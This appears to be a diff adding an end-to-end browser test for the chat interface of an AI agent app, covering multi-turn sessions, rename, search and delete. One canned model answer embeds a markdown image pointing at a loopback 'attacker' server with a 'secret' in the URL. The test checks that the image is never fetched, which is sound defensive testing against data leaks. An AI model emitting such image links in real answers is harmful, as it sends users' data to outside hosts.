@@ -3,6 +3,8 @@
 // screen lands in test/e2e/screenshots/ (not committed).
 import { spawnSync } from 'node:child_process';
 import fs from 'node:fs';
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
 import path from 'node:path';
 import type { Browser, Page } from 'playwright';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
@@ -406,5 +408,139 @@ describe.skipIf(!CHROMIUM)('the OmniPalm window in Chromium', { timeout: 60_000 
       .getByRole('listbox', { name: /Timeline events/ })
       .evaluate((element) => (element.scrollTop = 30_000));
     await expect.poll(() => rows.first().textContent()).not.toBe(before);
+  });
+
+  it('conversations: two turns, markdown, no remote image, rename, resume, search, delete', async () => {
+    // A loopback server standing for an attacker's: an answer points an image at it with a
+    // "secret" in the query. Not one request may reach it.
+    const leaks: string[] = [];
+    const leakServer = http.createServer((request, response) => {
+      leaks.push(request.url ?? '');
+      response.end();
+    });
+    await new Promise<void>((resolve) => leakServer.listen(0, '127.0.0.1', resolve));
+    const leakUrl = `http://127.0.0.1:${(leakServer.address() as AddressInfo).port}/leak.png?d=secret`;
+    try {
+      const { page, fixture, server } = await openApp([
+        {
+          text: [
+            'Here are the files:',
+            '',
+            '| file | size |',
+            '| --- | --- |',
+            '| alpha.txt | 3 KB |',
+            '',
+            '```bash',
+            'ls -la ~/alpha',
+            '```',
+          ].join('\n'),
+        },
+        { text: `The chart: ![x](${leakUrl}) as asked.` },
+        { text: 'Still here: **third** answer.' },
+        { text: 'A separate topic.' },
+      ]);
+      const conversation = page.getByRole('region', { name: 'Conversation' });
+      const sidebar = page.getByRole('complementary', { name: 'Sessions' });
+      const sessions = sidebar.getByRole('list', { name: 'Session list' }).locator(':scope > li');
+      const ask = async (prompt: string, turns: number) => {
+        const input = page.getByLabel('What should OmniPalm do?');
+        await input.fill(prompt);
+        await input.press('Enter');
+        await expect.poll(() => conversation.locator('.turns > li').count()).toBe(turns);
+        // The turn is over (stored, "Done") before the next prompt goes.
+        await conversation
+          .locator('.turns > li')
+          .nth(turns - 1)
+          .getByText('Done', { exact: true })
+          .waitFor();
+      };
+
+      // Turn 1 starts a session: the answer's table and code block render.
+      await ask('List the project files', 1);
+      await conversation.getByRole('cell', { name: 'alpha.txt' }).waitFor();
+      expect(await conversation.getByRole('columnheader').allTextContents()).toEqual([
+        'file',
+        'size',
+      ]);
+      expect(await conversation.locator('pre code').textContent()).toContain('ls -la ~/alpha');
+      await conversation.getByRole('button', { name: 'Copy code' }).waitFor();
+      await expect.poll(() => sessions.count()).toBe(1);
+      expect(await sessions.first().getAttribute('aria-label')).toBe('List the project files');
+
+      // Turn 2 goes on in the same session: the model's request carries turn 1.
+      await ask('Now draw the chart', 2);
+      const second = JSON.parse(fixture.server.requests[1]!.body) as {
+        messages: { role: string; content: unknown }[];
+      };
+      const sent = JSON.stringify(second.messages);
+      expect(sent).toContain('List the project files');
+      expect(sent).toContain('alpha.txt');
+      expect(sent).toContain('Now draw the chart');
+      // The image is words on the page, not an <img>, and nothing was fetched.
+      await conversation.getByText(`[image: x] ${leakUrl}`).waitFor();
+      expect(await page.locator('img').count()).toBe(0);
+      await page.waitForLoadState('networkidle');
+      expect(leaks).toEqual([]);
+      await screenshot(page, 'conversation');
+
+      // Rename inline.
+      await sidebar.getByRole('button', { name: 'Rename List the project files' }).click();
+      const title = sidebar.getByLabel('New title for List the project files');
+      await title.fill('Quarterly files');
+      await title.press('Enter');
+      await expect.poll(() => sessions.first().getAttribute('aria-label')).toBe('Quarterly files');
+      await expect
+        .poll(() => conversation.getByRole('heading').textContent())
+        .toBe('Quarterly files');
+
+      // Open the app again (the token lives in memory, so a reload is opening the address
+      // again): the same session shows, and the next prompt goes on with it.
+      await page.goto('about:blank');
+      await page.goto(server.openUrl);
+      await conversation.getByRole('heading', { name: 'Quarterly files' }).waitFor();
+      await expect.poll(() => conversation.locator('.turns > li').count()).toBe(2);
+      await ask('One more thing', 3);
+      await conversation.getByText('third', { exact: true }).waitFor();
+      const third = JSON.stringify(JSON.parse(fixture.server.requests[2]!.body).messages);
+      expect(third).toContain('List the project files');
+      expect(third).toContain('Now draw the chart');
+
+      // A new session (the button; Ctrl/Cmd+N does the same), then search and delete.
+      await sidebar.getByRole('button', { name: 'New session' }).click();
+      await page.getByText(/^New session\. /).waitFor();
+      const input = page.getByLabel('What should OmniPalm do?');
+      await input.fill('Another topic entirely');
+      await input.press('Enter');
+      await conversation.getByText('A separate topic.').waitFor();
+      await expect.poll(() => sessions.count()).toBe(2);
+      // A new session starts fresh: turn 1's words are not in its request.
+      expect(fixture.server.requests[3]!.body).not.toContain('alpha.txt');
+
+      await sidebar.getByLabel('Search sessions').fill('quarterly');
+      await expect.poll(() => sessions.count()).toBe(1);
+      expect(await sessions.first().getAttribute('aria-label')).toBe('Quarterly files');
+      // Prompts match too, not only titles.
+      await sidebar.getByLabel('Search sessions').fill('draw the chart');
+      await expect
+        .poll(() => sessions.evaluateAll((items) => items.map((item) => item.ariaLabel)))
+        .toEqual(['Quarterly files']);
+      await sidebar.getByLabel('Search sessions').fill('');
+      await expect.poll(() => sessions.count()).toBe(2);
+
+      await sidebar.getByRole('button', { name: 'Delete Another topic entirely' }).click();
+      const confirm = sidebar.getByRole('alertdialog', { name: 'Delete Another topic entirely?' });
+      expect(await confirm.textContent()).toMatch(/audit log keeps its lines/);
+      await screenshot(page, 'session-delete');
+      await confirm.getByRole('button', { name: 'Delete session' }).click();
+      await expect.poll(() => sessions.count()).toBe(1);
+      await page.getByText(/^New session\. /).waitFor();
+      // The audit log keeps the deleted session's lines.
+      expect(fixture.auditLines().some((line) => line.includes('Another topic entirely'))).toBe(
+        true,
+      );
+      expect(leaks).toEqual([]);
+    } finally {
+      await new Promise((resolve) => leakServer.close(resolve));
+    }
   });
 });
